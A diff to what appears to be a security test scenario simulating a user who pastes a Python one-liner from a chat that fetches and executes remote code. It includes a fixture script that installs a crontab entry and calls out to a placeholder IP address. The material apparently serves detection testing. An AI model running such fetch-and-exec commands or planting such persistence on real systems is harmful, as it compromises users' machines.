@@ -1,6 +1,6 @@
 title="A line of Python from a chat that runs what it fetches"
 what="buyer looks at a chat in Firefox; then pastes python3 -c 'import urllib.request as u; exec(u.urlopen(...).read())'. The fetched code starts sh and leaves a crontab; python connects to 203.0.113.81 for it and to 203.0.113.66 afterwards."
-host=ws3.example.org user=buyer daemons="cron sshd" audit_rules=audit-ba-site.rules
+host=ws3.example.org user=buyer daemons="cron sshd" audit_rules=audit-logins.rules
 setup() {
   mkdir -p "$base/out/www/p"
   printf 'import os\nos.system("(crontab -l 2>/dev/null; echo @daily true) | crontab -")\nu.urlopen("http://203.0.113.66/ok", data=b"1", timeout=4)\n' > "$base/out/www/p/fix.py"
